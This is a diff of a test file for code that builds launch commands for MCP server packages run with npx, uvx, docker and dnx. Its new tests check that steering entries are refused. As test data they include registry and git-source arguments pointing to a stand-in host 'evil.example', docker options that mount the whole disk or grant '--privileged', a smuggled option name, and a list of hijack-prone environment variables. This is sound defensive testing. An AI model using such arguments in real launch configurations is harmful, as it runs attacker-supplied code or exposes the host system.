@@ -29,20 +29,19 @@ describe('a package becomes the command that starts exactly it', () => {
         runtimeHint: 'npx',
         runtimeArguments: [
           { type: 'positional', value: '--yes' },
-          { type: 'named', name: '-q' },
+          { type: 'named', name: '-y', description: 'Without a question' },
         ],
       },
-      'npx --yes -q @a/notes@1.2.3',
+      'npx -y @a/notes@1.2.3',
     ],
     ['PyPI', { registryType: 'pypi', identifier: 'mcp-notes', version: '0.5.0' }, 'uvx mcp-notes==0.5.0'],
     [
-      'PyPI with options of uvx',
+      'PyPI with arguments',
       {
         ...{ registryType: 'pypi', identifier: 'mcp-notes', version: '0.5.0', runtimeHint: 'uvx' },
-        runtimeArguments: [{ type: 'named', name: '--python', value: '3.12' }],
         packageArguments: [{ type: 'positional', value: 'serve' }],
       },
-      'uvx --python 3.12 mcp-notes==0.5.0 serve',
+      'uvx mcp-notes==0.5.0 serve',
     ],
     [
       'an image',
@@ -52,6 +51,18 @@ describe('a package becomes the command that starts exactly it', () => {
         environmentVariables: [{ name: 'MODE', value: 'x' }],
       },
       'docker run -i --rm -e MODE docker.io/a/notes:1.0 with {"MODE":"x"}',
+    ],
+    [
+      'an image with options of docker',
+      {
+        ...{ registryType: 'oci', identifier: 'localhost:5000/a/notes:1.0' },
+        environmentVariables: [{ name: 'KEY', value: 'x' }],
+        runtimeArguments: [
+          ...['run', '-i', '--rm', '--init', '-e', 'KEY'].map((value) => ({ type: 'positional', value })),
+          { type: 'named', name: '-e', value: 'LANG' },
+        ],
+      },
+      'docker run -i --rm -e KEY -e LANG --init localhost:5000/a/notes:1.0 with {"KEY":"x"}',
     ],
     [
       'an image with its tag beside it',
@@ -99,6 +110,7 @@ describe('a package that is not certain to be the one that is named is not start
     ['an image of no version', 'version', { registryType: 'oci', identifier: 'a/notes' }],
     ['an image of the latest version', 'version', { registryType: 'oci', identifier: 'a/notes:latest' }],
     ['an image that is an option', 'name', { registryType: 'oci', identifier: '--privileged', version: '1' }],
+    ['with an option for a name that looks plain', 'name', { ...npm, identifier: '-p' }],
     ['with another program', 'runtime', { ...npm, runtimeHint: 'bash' }],
     ['a bundle without a fingerprint', 'fingerprint', { registryType: 'mcpb', identifier: 'https://x.example/a.mcpb' }],
     [
@@ -119,6 +131,48 @@ describe('a package that is not certain to be the one that is named is not start
   ];
   test.each(rows)('%s', (_, why, pack) => {
     expect(wayOf(pack)).toEqual({ way: 'none', why });
+  });
+});
+
+describe('an entry that would have something else run under the name of its package is refused', () => {
+  const pypi = { registryType: 'pypi', identifier: 'notes', version: '1.0' };
+  const oci = { registryType: 'oci', identifier: 'a/notes:1.0' };
+  const steering = ['npm_config_registry', 'NPM_CONFIG_REGISTRY', 'NODE_OPTIONS', 'UV_INDEX_URL', 'PIP_INDEX_URL'];
+  const variables = [...steering, 'PATH', 'DOCKER_HOST', 'OPENSSL_CONF', 'DOTNET_STARTUP_HOOKS'];
+  test.each(variables)('with a value, a default or a choice for %s; not where a person fills it in', (name) => {
+    const withMore = (more: object) => wayOf({ ...npm, environmentVariables: [{ name, ...more }] });
+    for (const more of [{ value: 'x' }, { value: '{a}', variables: { a: {} } }, { default: 'x' }, { choices: ['x'] }])
+      expect(withMore(more)).toEqual({ way: 'none', why: 'steers' });
+    expect(withMore({}).way).toBe('command');
+  });
+
+  test.each(['NODE_ENV', 'PYTHONUNBUFFERED', 'NOTES_PATH'])('while a value for %s is taken', (name) => {
+    expect(wayOf({ ...npm, environmentVariables: [{ name, value: 'x' }] }).way).toBe('command');
+  });
+
+  const words = (...values: string[]) => values.map((value) => ({ type: 'positional', value }));
+  const rows: [string, Record<string, unknown>, unknown[]][] = [
+    ['npx with a registry', npm, words('--registry=https://evil.example')],
+    ['npx with a registry in two parts', npm, [{ type: 'named', name: '--registry', value: 'https://evil.example' }]],
+    ['npx with another package', npm, words('-y', '--package=evil')],
+    ['npx with a package before this one', npm, words('evil')],
+    ['npx with an option that has a value', npm, [{ type: 'named', name: '-y', value: 'evil' }]],
+    ['npx with a blank', npm, [{ type: 'named', name: '-y', default: 'evil' }]],
+    ['npx with a word to fill in', npm, [{ type: 'positional', valueHint: 'package' }]],
+    ['npx with an option that objects have', npm, words('constructor')],
+    ['uvx with a source', pypi, words('--from', 'git+https://evil.example/x')],
+    ['uvx with a Python of its own', pypi, [{ type: 'named', name: '--python', value: '/tmp/x' }]],
+    ['docker with the whole disk', oci, words('-v', '/:/h')],
+    ['docker with all rights', oci, [{ type: 'named', name: '--privileged' }]],
+    ['docker with a value on the line', oci, words('-e', 'A=b')],
+    ['docker with an option for a variable', oci, words('-e', '--privileged')],
+    ['docker with nothing after -e', oci, words('-e')],
+    ['docker with another image', oci, words('run', 'evil/x')],
+    ['-e for npx', npm, words('-e', 'A')],
+    ['dnx with a source', { registryType: 'nuget', identifier: 'A', version: '1' }, words('--source', 'https://x')],
+  ];
+  test.each(rows)('%s', (_, pack, runtimeArguments) => {
+    expect(wayOf({ ...pack, runtimeArguments })).toEqual({ way: 'none', why: 'steers' });
   });
 });
 
